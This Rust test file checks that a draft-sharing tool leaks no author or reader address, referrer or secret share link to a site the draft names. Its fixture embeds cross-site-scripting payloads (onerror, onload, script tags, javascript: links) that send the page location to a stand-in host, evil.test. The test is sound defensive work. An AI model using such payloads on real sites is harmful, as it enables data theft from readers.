//! The way back: what a site learns that a draft shows pictures of, or leads to. In a reader's
//! address is a secret.

use serde_json::json;

use super::{EMPTY, browser};
use crate::support::{Folder, Served, Website};

/// A draft with all that leads to another site.
async fn draft(site: &Website) -> (Folder, Served) {
    let site = format!("http://evil.test:{}", site.port);
    let text = format!(
        "![]({site}/picture.png) <a id=out href=\"{site}/out\">out</a>\n\n\
         <a id=blank target=_blank href=\"{site}/blank\">new</a>\n\n\
         <iframe src=\"{site}/frame\"></iframe>\n\n\
         <video src=\"{site}/video.mp4\"></video>\n\n\
         <img src=x onerror=\"new Image().src='{site}/script?'+location\">\n\n\
         <script>new Image().src='{site}/script?'+location</script>\n\n\
         <svg onload=\"fetch('{site}/script?'+location)\"></svg> \
         <a id=script href=\"javascript:void(new Image().src='{site}/script?'+location)\">x</a>\n\n\
         <form action=\"{site}/form\"><button id=form name=a>x</button></form>\n"
    );
    let folder = Folder::with_post(&text);
    let served = Served::start(&folder).await;
    (folder, served)
}

/// Looks at the draft at this address, goes wherever it leads, and tells the site nothing.
async fn tells_nothing(there: &Website, url: &str, secrets: &[&str]) {
    let browser = browser().await;
    browser.goto(url).await;
    there.request("GET /picture.png").await;
    // A frame waits until it is asked for.
    let asked = there.asked();
    assert!(!asked.iter().any(|asked| asked.contains("/frame")));
    browser
        .run("document.querySelector('button.from-elsewhere').click()")
        .await;
    there.request("GET /frame").await;
    browser
        .run("for (const id of ['script', 'form', 'blank']) document.getElementById(id)?.click()")
        .await;
    there.request("GET /blank").await;
    browser.run("document.querySelector('#out').click()").await;
    there.request("GET /out").await;
    browser.eventually("location.pathname === '/out'").await;
    let known = "return [document.referrer, window.opener]";
    assert_eq!(browser.run(known).await, json!(["", null]));
    browser.look_into(1).await;
    browser.eventually("location.pathname === '/blank'").await;
    assert_eq!(browser.run(known).await, json!(["", null]));
    for asked in there.asked() {
        for secret in secrets {
            assert!(!asked.contains(secret), "{asked}");
        }
        let first = asked.lines().next().unwrap_or_default();
        assert!(
            !first.contains("/script") && !first.contains("/form"),
            "{asked}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_site_that_a_draft_names_learns_nothing_from_the_author() {
    let there = Website::with_page(EMPTY).await;
    let (_folder, served) = draft(&there).await;
    let port = served.port.to_string();
    tells_nothing(
        &there,
        &served.url("/posts/a"),
        &[&port, "localhost", "/posts/a"],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_site_that_a_draft_names_learns_no_link_from_a_reader() {
    let there = Website::with_page(EMPTY).await;
    let (_folder, served) = draft(&there).await;
    let link = served.share_post("posts/a.md").await;
    let port = served.readers_port();
    let url = format!("http://localhost:{port}{link}/posts/a");
    let port = port.to_string();
    tells_nothing(&there, &url, &[&link, &port, "localhost", "/posts/a"]).await;
}
